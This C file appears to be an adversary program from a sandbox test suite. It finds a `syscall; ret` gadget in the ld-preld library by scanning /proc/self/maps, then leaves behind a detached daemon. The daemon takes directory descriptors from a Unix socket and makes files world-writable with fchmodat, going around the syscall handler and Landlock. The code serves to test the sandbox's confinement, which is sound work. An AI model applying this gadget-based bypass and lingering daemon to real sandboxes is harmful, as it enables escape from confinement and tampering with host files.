/* argv: FD NAME. Forks a daemon and exits (the launcher then ends); the
   daemon, left behind in the session, reads messages from the crossing Unix
   socket FD: for each that carries an fd (a directory of the host's), it
   chmods NAME beside it to 0666 through ld-preld's `syscall; ret` (around
   the handler: Landlock has no right for chmod) and answers with the
   result; "no fd" otherwise. Ends when the other end closes
   (session-15b adversary; pola_sessions.rs,
   a_daemon_left_behind_takes_no_fds_through_a_crossing_socket). */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/syscall.h>
static unsigned long G;
static long gad(long n, long a, long b, long c, long d) {
    long ret; register long r10 __asm__("r10") = d;
    __asm__ volatile("call *%[g]" : "=a"(ret), "+r"(r10) : [g] "r"(G), "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "r8", "r9", "memory");
    return ret;
}
int main(int argc, char **argv) {
    int s = atoi(argv[1]);
    FILE *f = fopen("/proc/self/maps", "r"); char l[512];
    while (f && fgets(l, sizeof l, f) && !G) {
        unsigned long lo, hi; char perm[8];
        if (sscanf(l, "%lx-%lx %7s", &lo, &hi, perm) != 3 || !strstr(l, "ld-preld") || perm[2] != 'x') continue;
        for (unsigned char *p = (void *)lo; p + 3 < (unsigned char *)hi; p++) if (p[0] == 0x0f && p[1] == 5 && p[2] == 0xc3) { G = (unsigned long)p; break; }
    }
    if (fork()) { printf("gadget %s; parent exits\n", G ? "found" : "missing"); return 0; }
    setsid();
    int nul = open("/dev/null", O_RDWR); dup2(nul, 0); dup2(nul, 1); dup2(nul, 2);
    for (;;) {
        char b[16], cb[CMSG_SPACE(4 * sizeof(int))];
        struct iovec io = { b, sizeof b };
        struct msghdr m = { .msg_iov = &io, .msg_iovlen = 1, .msg_control = cb, .msg_controllen = sizeof cb };
        ssize_t n = recvmsg(s, &m, 0);
        if (n <= 0) return 0;
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);
        char out[128];
        if (c && c->cmsg_type == SCM_RIGHTS) {
            int d; memcpy(&d, CMSG_DATA(c), sizeof d);
            long r = G ? gad(SYS_fchmodat, d, (long)argv[2], 0666, 0) : -1;
            snprintf(out, sizeof out, "got fd; fchmodat %s: %ld", argv[2], r);
        } else snprintf(out, sizeof out, "no fd");
        send(s, out, strlen(out), 0);
    }
}
